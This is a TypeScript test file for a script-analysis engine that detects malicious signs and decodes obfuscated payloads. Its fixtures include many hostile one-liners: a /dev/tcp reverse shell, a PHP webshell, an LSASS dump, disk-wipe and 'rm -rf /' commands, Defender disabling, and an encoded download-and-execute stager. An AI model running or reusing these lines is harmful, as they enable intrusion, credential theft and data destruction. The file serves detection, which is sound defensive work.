import { gzipSync } from "node:zlib";
import * as fc from "fast-check";
import { expect, test } from "vitest";
import { buildPe } from "../testing/index.ts";
import { analyzeScript } from "./analyze-script.ts";
import { decodeScriptEncoder } from "./script-encoder.ts";
import type { ScriptFacts, ScriptLanguage, ScriptSignName } from "../inspection.ts";

const factsOf = (text: string, language: ScriptLanguage): ScriptFacts => analyzeScript(text, language).facts;
const signsOf = (text: string, language: ScriptLanguage): ScriptSignName[] => [
  ...new Set(factsOf(text, language).signs.map(({ name }) => name)),
];
const base64 = (text: string | Uint8Array): string => Buffer.from(text).toString("base64");

test.each<[ScriptSignName, ScriptLanguage, string]>([
  ["download", "powershell", "(New-Object Net.WebClient).DownloadString('http://example.com/a')"],
  ["download", "vbscript", 'Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")'],
  ["download", "batch", "certutil -urlcache -split -f http://example.com/a.exe a.exe"],
  ["download", "shell", "wget -q http://example.com/x.sh -O /tmp/x"],
  ["download", "python", "import urllib.request; urllib.request.urlopen('http://example.com')"],
  ["execution", "javascript", 'new ActiveXObject("WScript.Shell").Run("calc")'],
  ["execution", "python", "subprocess.Popen(['id'])"],
  ["execution", "php", "<?php shell_exec('id');"],
  ["dynamic-code", "javascript", "eval(x)"],
  ["dynamic-code", "powershell", "$x | IEX"],
  ["dynamic-code", "vbscript", "ExecuteGlobal s"],
  ["encoded-command", "batch", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi"],
  ["hidden-window", "powershell", "powershell -w hidden -c calc"],
  ["hidden-window", "vbscript", 'sh.Run "cmd /c calc", 0, False'],
  ["policy-bypass", "batch", "powershell -ExecutionPolicy Bypass -File a.ps1"],
  ["run-key", "vbscript", 'sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "a.exe"'],
  ["scheduled-task", "batch", "schtasks /create /tn x /tr a.exe /sc minute"],
  ["startup-folder", "batch", 'copy a.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"'],
  ["service-creation", "batch", "sc create evil binPath= a.exe"],
  ["cron", "shell", "(crontab -l; echo '* * * * * /tmp/x') | crontab -"],
  ["ssh-key", "shell", "echo key >> ~/.ssh/authorized_keys"],
  ["credential-access", "powershell", "rundll32 comsvcs.dll MiniDump 624 a.dmp full"],
  ["browser-data", "python", 'path = r"C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"'],
  ["keylogging", "python", "from pynput import keyboard"],
  ["reverse-shell", "shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
  ["reverse-shell", "python", "os.dup2(s.fileno(),0)"],
  ["webshell", "php", "<?php @eval($_POST['cmd']); ?>"],
  ["code-injection", "powershell", '[DllImport("kernel32")] VirtualAlloc'],
  ["amsi-bypass", "powershell", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"],
  ["defender-tampering", "powershell", "Set-MpPreference -DisableRealtimeMonitoring $true"],
  ["log-clearing", "batch", "wevtutil cl Security"],
  ["shadow-copy-deletion", "batch", "vssadmin delete shadows /all /quiet"],
  ["disk-wipe", "shell", "dd if=/dev/zero of=/dev/sda bs=1M"],
  ["mass-deletion", "shell", "rm -rf / --no-preserve-root"],
  ["ransom-note", "powershell", "'Your files have been encrypted' | Out-File readme.txt"],
  ["crypto-mining", "shell", "./xmrig -o stratum+tcp://pool.example.com:3333"],
  ["exfiltration", "python", "requests.post('https://api.telegram.org/bot123/sendDocument')"],
  ["self-deletion", "batch", 'del "%~f0"'],
  ["lolbin", "batch", "mshta http://example.com/a.hta"],
  ["anti-analysis", "vbscript", 'If InStr(x, "VMware") Then WScript.Quit'],
  ["user-creation", "batch", "net user evil P4ss /add"],
  ["firewall-tampering", "batch", "netsh advfirewall set allprofiles state off"],
  ["privilege-escalation", "powershell", "Start-Process a.exe -Verb RunAs"],
])("%s is seen in %s: %s", (name, language, text) => {
  expect(signsOf(text, language)).toContain(name);
});

test.each<[ScriptLanguage, string]>([
  ["javascript", "function add(a, b) { return a + b; }\nmodule.exports = { add };\n"],
  ["javascript", "const match = /a(b)/.exec(text);\nconsole.log(match);\n"],
  ["python", "def main():\n    print('hello')\n"],
  ["shell", "#!/bin/sh\nset -e\ncd build\nmake all\n"],
  ["batch", "@echo off\r\necho building\r\nnmake all\r\n"],
  ["powershell", "Get-ChildItem | Where-Object { $_.Length -gt 10 } | Format-Table\n"],
])("an ordinary %s script shows nothing: %s", (language, text) => {
  expect(factsOf(text, language)).toMatchObject({ signs: [], decoded: [], obfuscation: { score: 0 } });
});

test("an encoded PowerShell command is decoded, and what it holds is read too", () => {
  const inner = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage.ps1')";
  const encoded = Buffer.from(inner, "utf16le").toString("base64");
  const facts = factsOf(`powershell -nop -w hidden -EncodedCommand ${encoded}`, "batch");
  expect(facts.decoded).toMatchObject([{ encoding: "base64-utf16", layer: 0, preview: inner }]);
  expect(facts.decodedScripts).toEqual([inner]);
  expect(facts.urls).toEqual(["http://198.51.100.7/stage.ps1"]);
  expect(facts.signs).toContainEqual(expect.objectContaining({ name: "download", layer: 1 }));
});

test("compressed and nested blobs are opened round by round", () => {
  const core = "Invoke-WebRequest http://example.com/final.exe -OutFile C:\\Temp\\a.exe; Start-Process C:\\Temp\\a.exe";
  const facts = factsOf(`$a = '${base64(`$b = '${base64(gzipSync(core))}'`)}'`, "powershell");
  expect(facts.decoded.map(({ encoding, layer }) => [encoding, layer])).toEqual([
    ["base64", 0],
    ["base64-gzip", 1],
  ]);
  expect(facts.decodedScripts.at(-1)).toBe(core);
  expect(facts.urls).toContain("http://example.com/final.exe");
});

test("a program within a script is told by its type", () => {
  expect(factsOf(`$bytes = [Convert]::FromBase64String("${base64(buildPe())}")`, "powershell").decoded).toMatchObject([
    { encoding: "base64", contentType: "pe-exe" },
  ]);
  expect(factsOf(`x = "${Buffer.from(buildPe()).toString("hex")}"`, "vbscript").decoded).toMatchObject([
    { encoding: "hex", contentType: "pe-exe" },
  ]);
});

test.each<[ScriptLanguage, string]>([
  [
    "javascript",
    `eval(String.fromCharCode(${Array.from("WScript.Shell download")
      .map((c) => c.charCodeAt(0))
      .join(",")}))`,
  ],
  [
    "vbscript",
    `Execute ${Array.from("WScript.Shell download")
      .map((c) => `Chr(${c.charCodeAt(0)})`)
      .join(" & ")}`,
  ],
  [
    "powershell",
    `iex (${Array.from("WScript.Shell download")
      .map((c) => `[char]${c.charCodeAt(0)}`)
      .join("+")})`,
  ],
  [
    "javascript",
    `x = "${Array.from("WScript.Shell download")
      .map((c) => `\\x${c.charCodeAt(0).toString(16)}`)
      .join("")}"`,
  ],
  [
    "javascript",
    `x = unescape("${Array.from("WScript.Shell download")
      .map((c) => `%${c.charCodeAt(0).toString(16)}`)
      .join("")}")`,
  ],
])("character codes in %s are read: %s", (language, text) => {
  expect(factsOf(text, language).decodedScripts).toContain("WScript.Shell download");
});

test("split literals, carets and back ticks do not hide words", () => {
  expect(signsOf('x = "WScr" + "ipt.Sh" + "ell"', "javascript")).toContain("execution");
  expect(signsOf('x = "WScr" & "ipt.Sh" & "ell"', "vbscript")).toContain("execution");
  expect(signsOf("vss^admin del^ete shad^ows", "batch")).toContain("shadow-copy-deletion");
  expect(signsOf("I`n`voke-Exp`ression $x", "powershell")).toContain("dynamic-code");
});

test("the Windows Script Encoder's text is read", () => {
  // The well-known example of an encoded script.
  const encoded = "#@~^DgAAAA==\\ko$K6,JC6V^GJqAQAAA==^#~@";
  expect(decodeScriptEncoder(encoded).text).toBe('MsgBox "Hello"');
  expect(decodeScriptEncoder("#@~^JQAAAA==-mD~mP{PJ@!@$@*Ei@#@&\t?1Dr2DR214Wvl#p/QgAAA==^#~@").text).toBe(
    'var a = "<@>";\r\nWScript.Echo(a);',
  );
  expect(factsOf(encoded, "vbscript").decoded).toMatchObject([
    { encoding: "script-encoder", preview: 'MsgBox "Hello"' },
  ]);
});

test("obfuscation is measured, and minified code alone scores low", () => {
  const obfuscated = `eval(${Array.from({ length: 100 }, (_, index) => `"\\x${(65 + (index % 20)).toString(16)}"`).join("+")})`;
  expect(factsOf(obfuscated, "javascript").obfuscation.score).toBeGreaterThanOrEqual(50);
  const minified = "function a(b,c){return b.map(function(d){return d+c})};".repeat(40);
  expect(factsOf(minified, "javascript").obfuscation.score).toBeLessThan(40);
});

test("the limits are named when they are reached", () => {
  expect(analyzeScript("x".repeat((1 << 21) + 1), "javascript").limitsReached).toContain("MAX_SCRIPT_CHARACTERS");
  const blobs = Array.from({ length: 80 }, (_, index) => `'${base64(`this is text number ${index} of many`)}'`).join(
    "\n",
  );
  const parsed = analyzeScript(blobs, "python");
  expect(parsed.limitsReached).toEqual(expect.arrayContaining(["MAX_DECODED_BLOBS", "MAX_DECODED_SCRIPTS"]));
  let nested = "echo the innermost text of all";
  for (let round = 0; round < 6; round++) nested = `x = '${base64(nested)}'`;
  expect(analyzeScript(nested, "python").limitsReached).toContain("MAX_DECODE_LAYERS");
});

test("a bomb within a script is not inflated beyond its limit", () => {
  const bomb = base64(gzipSync(Buffer.alloc(24 << 20)));
  const started = process.threadCpuUsage();
  expect(factsOf(`$x = '${bomb}'`, "powershell").decoded.every(({ decodedLength }) => decodedLength <= 1 << 20)).toBe(
    true,
  );
  expect(process.threadCpuUsage(started).user / 1000).toBeLessThan(1500);
});

test("arbitrary text is analysed without a throw", () => {
  const languages = [
    "javascript",
    "vbscript",
    "powershell",
    "batch",
    "shell",
    "python",
    "perl",
    "php",
    "other",
  ] as const;
  fc.assert(
    fc.property(
      fc.oneof(
        fc.uint8Array({ maxLength: 500 }).map((bytes) => Buffer.from(bytes).toString("latin1")),
        fc.base64String({ maxLength: 400 }),
      ),
      fc.constantFrom(...languages),
      (text, language) => {
        expect(() => analyzeScript(text, language)).not.toThrow();
      },
    ),
    { numRuns: 100 },
  );
});

const LENGTH = 1 << 16;

test.each([
  ["quotes", '"'],
  ["quotes and spaces", `"${" ".repeat(30)}`],
  ["plus signs", '"+'],
  ["numbers", "1, 1 ,"],
  ["unfinished code lists", "1 , 2 , 3 , 4 , 5 , 6 , x "],
  ["base64 letters", "QUJD"],
  ["hex digits", "4d5a"],
  ["escapes", "\\x41"],
  ["percent escapes", "%41"],
  ["powershell words", "powershell "],
  ["run calls", ".run ,"],
  ["reg words", "reg add "],
  ["curl words", "curl -"],
  ["rm words", "rm -"],
  ["del words", "del /f "],
  ["dd words", "dd if=/dev/zero "],
  ["bcdedit words", "bcdedit "],
  ["carets", "a^"],
  ["addresses", "http://a"],
  ["encoder marks", "#@~^"],
  ["spaces", " "],
  ["new lines", "\n"],
])("64 kilobytes of %s take linear time", (_what, piece) => {
  const text = piece.repeat(Math.ceil(LENGTH / piece.length));
  const started = process.threadCpuUsage();
  for (const language of ["powershell", "shell", "php"] as const) analyzeScript(text, language);
  // Some 20 milliseconds where it is linear, seconds where it is not. Others on the machine do not count.
  expect(process.threadCpuUsage(started).user / 1000).toBeLessThan(500);
});
